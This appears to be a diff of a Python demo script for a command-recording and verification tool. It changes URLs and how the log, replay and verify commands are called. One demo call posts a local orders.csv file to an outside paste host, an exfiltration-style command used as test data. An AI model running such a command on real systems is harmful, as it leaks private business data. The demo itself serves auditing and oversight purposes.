@@ -41,7 +41,7 @@ def _api(screen: Screen, stage: Stage) -> None:
     calls = (
         (f"https://{API_NAME}/v1/invoices/inv_0002",),
         ("-d", '{"invoice": "inv_0002", "amount": "93.99"}', f"https://{API_NAME}/v1/refunds"),
-        ("-d", "@orders.csv", "https://paste.example.net/upload"),
+        ("-d", "@orders.csv", "http://paste.example.net/upload"),
     )
     shown = []
     for call in calls:
@@ -58,14 +58,14 @@ def _api(screen: Screen, stage: Stage) -> None:
 def _record(screen: Screen, stage: Stage) -> None:
     found = stage.settled(len(STATEMENTS) + 2)
     screen.chapter("What is on record", "Written before each command went upstream; masked secrets never reach it.")
-    screen.command(["log", "-c", stage.config])
+    screen.command(stage.config.parent, "log")
     session = next((view["session"] for view in found if view["kind"] == "sql"), None)
     if session is None:
         raise PartError(f"no SQL command is on record: {json.dumps(found)[:500]}")
     screen.chapter("Replay", "The psql session, as it happened.")
-    screen.command(["replay", session, "--no-wait", "-c", stage.config])
+    screen.command(stage.config.parent, "replay", session, "--no-wait")
     screen.chapter("Proof", "Every record, hash and signature is checked again, offline.")
-    status = screen.command(["verify", "-c", stage.config])
+    status = screen.command(stage.config.parent, "verify")
     _expect(status == 0, "onrecord verify", f"status {status}")
 
 
